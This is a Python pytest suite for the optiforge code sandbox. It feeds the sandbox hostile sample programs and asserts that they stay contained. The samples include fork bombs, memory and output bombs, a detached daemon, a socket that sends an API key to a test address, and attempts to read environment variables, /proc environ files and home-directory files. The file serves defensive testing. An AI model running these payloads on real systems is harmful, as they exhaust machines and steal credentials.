"""Hostile programs: each must end within its limits, print no secret, leave no file
outside its work dir and no process behind.

Every program is bounded by small limits and short timeouts, so even a broken sandbox
cannot harm the machine: fork bombs are capped at a few dozen processes, memory bombs
at a few hundred MB, and every run has a wall clock of a few seconds.
"""

from __future__ import annotations

import os
import shutil
import socket
import threading
import time
from pathlib import Path

import pytest

from optiforge import sandbox
from optiforge.sandbox import Limits

LIM = Limits(cpu_s=2, wall_s=4, memory_mb=384, processes=32, file_size_mb=8, output_bytes=200_000)
SECRET = "sk-optiforge-test-" + "f" * 24

def _leftover(marker: str) -> list[int]:
    pids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
                state = Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[0]
            except OSError:
                continue
            if marker.encode() in cmdline and state != "Z":
                pids.append(int(entry))
    return pids


# Places a hostile program might try to drop a file on the host.
def _host_targets(marker: str) -> list[Path]:
    return [Path(p) / marker for p in ("/tmp", "/var/tmp", "/dev/shm", "/root", "/work", os.getcwd(), str(Path.home()))]

needs_gxx = pytest.mark.skipif(shutil.which("g++") is None, reason="g++ not installed")


def _run_hostile(code: str, marker: str, monkeypatch, limits: Limits = LIM, **kwargs):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    t0 = time.monotonic()
    result = sandbox.run(code, args=[marker], limits=limits, **kwargs)
    elapsed = time.monotonic() - t0
    assert elapsed < limits.wall_s + 3, f"took {elapsed:.1f}s"
    assert SECRET not in result.stdout and SECRET not in result.stderr
    assert not _leftover(marker), "a process survived the run"
    for target in _host_targets(marker):
        assert not target.exists(), f"program wrote {target}"
    return result


def test_infinite_loop(marker, monkeypatch):
    r = _run_hostile("while True: pass", marker, monkeypatch, limits=LIM.scaled(cpu_s=1, wall_s=10))
    assert r.limit == "cpu"


def test_sleep_forever(marker, monkeypatch):
    r = _run_hostile("import time\nwhile True: time.sleep(100)", marker, monkeypatch)
    assert r.limit == "wall"


def test_memory_bomb(marker, monkeypatch):
    r = _run_hostile("x = []\nwhile True: x.append(bytearray(2**24))", marker, monkeypatch)
    assert r.limit == "memory"
    assert r.peak_memory_mb < LIM.memory_mb + 64


def test_fork_bomb(marker, monkeypatch):
    code = "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)\n"
    r = _run_hostile(code, marker, monkeypatch)
    assert not r.ok


def test_fork_count_is_capped(marker, monkeypatch):
    code = (
        "import os, sys, time\nn = 0\nfor _ in range(200):\n    try:\n        pid = os.fork()\n"
        "    except OSError:\n        break\n    if pid == 0:\n        time.sleep(3)\n        os._exit(0)\n    n += 1\nprint(n)\n"
    )
    r = _run_hostile(code, marker, monkeypatch)
    assert int(r.stdout.strip()) < LIM.processes


def test_detached_daemon_dies_with_the_run(marker, monkeypatch):
    code = (
        "import os, sys, time\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        for fd in (0, 1, 2):\n            os.close(fd)\n        time.sleep(30)\n    os._exit(0)\n"
        "print('parent leaves')\n"
    )
    r = _run_hostile(code, marker, monkeypatch)
    assert r.ok and r.stdout == "parent leaves\n"
    assert r.wall_s < 2


def test_stdout_flood(marker, monkeypatch):
    r = _run_hostile("import sys\nwhile True:\n    sys.stdout.write('A' * 8192)\n", marker, monkeypatch)
    assert r.limit == "output" and r.stdout_truncated
    assert len(r.stdout) <= LIM.output_bytes


def test_stderr_flood(marker, monkeypatch):
    r = _run_hostile("import sys\nwhile True:\n    sys.stderr.write('E' * 8192)\n", marker, monkeypatch)
    assert r.limit == "output" and r.stderr_truncated


def test_network_is_unreachable(marker, monkeypatch):
    received: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(6)
    port = server.getsockname()[1]

    def accept() -> None:
        try:
            conn, _ = server.accept()
            received.append(conn.recv(100))
            conn.close()
        except OSError:
            pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    code = (
        "import os, socket, time\n"
        f"for host, port in [('127.0.0.1', {port}), ('192.0.2.1', 80)]:\n"
        "    s = socket.socket()\n    s.settimeout(2)\n    t = time.monotonic()\n"
        "    try:\n        s.connect((host, port))\n        s.sendall(os.environ.get('OPENAI_API_KEY', 'none').encode())\n        print(host, 'CONNECTED')\n"
        "    except OSError as e:\n        print(host, 'failed', type(e).__name__, round(time.monotonic() - t, 2))\n"
    )
    r = _run_hostile(code, marker, monkeypatch)
    server.close()
    thread.join(1)
    assert "CONNECTED" not in r.stdout
    assert received == []
    for line in r.stdout.splitlines():
        assert float(line.split()[-1]) < 1.0, "connect attempts must fail at once, not time out"


def test_reading_api_keys_from_environment_and_proc(marker, monkeypatch):
    code = (
        "import os, glob\nprint(dict(os.environ))\n"
        "for p in glob.glob('/proc/*/environ'):\n    try:\n        print(open(p, 'rb').read())\n    except OSError as e:\n        print(p, e)\n"
    )
    r = _run_hostile(code, marker, monkeypatch)
    assert "OPENAI_API_KEY" not in r.stdout


def test_writing_outside_the_work_dir(marker, monkeypatch):
    code = (
        "import sys\nm = sys.argv[1]\n"
        "for d in ['/tmp', '/var/tmp', '/dev/shm', '/root', '/work', '/usr', '/etc', '/']:\n"
        "    try:\n        open(d + '/' + m, 'w').write('x')\n        print(d, 'wrote')\n"
        "    except OSError as e:\n        print(d, 'denied', e.errno)\n"
        "open(m, 'w').write('inside the work dir is fine')\n"
    )
    r = _run_hostile(code, marker, monkeypatch)
    assert r.ok, r.stderr
    if r.isolation == "bwrap":
        for d in ("/root", "/usr", "/etc", "/"):
            assert f"{d} denied" in r.stdout


def test_reading_the_home_directory(marker, monkeypatch):
    home = Path.home()
    secret_file = home / f".optiforge-test-{marker}"
    secret_file.write_text(SECRET)
    try:
        code = (
            "import os, sys\nfound = []\n"
            f"for root, dirs, files in os.walk({str(home)!r}):\n"
            "    dirs[:] = [d for d in dirs if not d.startswith('.pyenv')]\n"
            "    for f in files:\n        try:\n            found.append(open(os.path.join(root, f), errors='replace').read(200))\n"
            "        except OSError:\n            pass\n"
            f"print(os.path.exists({str(secret_file)!r}), found)\n"
        )
        r = _run_hostile(code, marker, monkeypatch)
        assert r.ok, r.stderr
        assert r.stdout.startswith("False")
    finally:
        secret_file.unlink()


def test_raising_its_own_limits(marker, monkeypatch):
    code = (
        "import resource\n"
        "for name in ['RLIMIT_CPU', 'RLIMIT_AS', 'RLIMIT_NPROC', 'RLIMIT_FSIZE', 'RLIMIT_NOFILE']:\n"
        "    r = getattr(resource, name)\n    soft, hard = resource.getrlimit(r)\n"
        "    try:\n        resource.setrlimit(r, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))\n        print(name, 'RAISED')\n"
        "    except (ValueError, OSError):\n        print(name, 'refused', soft == hard)\n"
    )
    r = _run_hostile(code, marker, monkeypatch)
    assert r.ok, r.stderr
    assert "RAISED" not in r.stdout
    assert r.stdout.count("refused True") == 5


def test_deep_recursion(marker, monkeypatch):
    code = "import sys\nsys.setrecursionlimit(10**9)\ndef f(n):\n    return f(n + 1) + 1\nf(0)\n"
    r = _run_hostile(code, marker, monkeypatch, limits=LIM.scaled(memory_mb=256))
    assert not r.ok


def test_big_file_is_capped(marker, monkeypatch):
    r = _run_hostile("open('big', 'wb').write(b'x' * (64 * 2**20))", marker, monkeypatch)
    assert r.limit in ("filesize", "memory")


@needs_gxx
def test_cpp_fork_bomb_and_loop(marker, monkeypatch):
    code = "#include <unistd.h>\nint main(){ while (true) fork(); }\n"
    r = _run_hostile(code, marker, monkeypatch, language="cpp")
    assert not r.ok


def test_cli_contains_a_fork_bomb(marker, tmp_path, monkeypatch):
    import subprocess
    import sys

    prog = tmp_path / f"{marker}.py"
    prog.write_text("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n")
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    t0 = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "optiforge", "sandbox", "run", str(prog), "--time-limit", "1"], capture_output=True, text=True, timeout=60)
    assert time.monotonic() - t0 < 15
    assert proc.returncode in (124, 125)
    assert not _leftover(marker)


def test_sandbox_dies_when_optiforge_is_killed(marker, tmp_path):
    import signal
    import subprocess
    import sys

    script = tmp_path / "parent.py"
    script.write_text(
        "import sys\nfrom optiforge import sandbox\n"
        "sandbox.run('import time\\nwhile True: time.sleep(1)', args=[sys.argv[1]], limits=sandbox.Limits(wall_s=30))\n"
    )
    parent = subprocess.Popen([sys.executable, str(script), marker])
    try:
        deadline = time.monotonic() + 20
        while not _leftover(marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _leftover(marker), "the sandboxed program never started"
        parent.send_signal(signal.SIGKILL)
        parent.wait(5)
        deadline = time.monotonic() + 3
        while _leftover(marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not _leftover(marker), "the sandbox outlived a killed optiforge"
    finally:
        if parent.poll() is None:
            parent.kill()
            parent.wait()
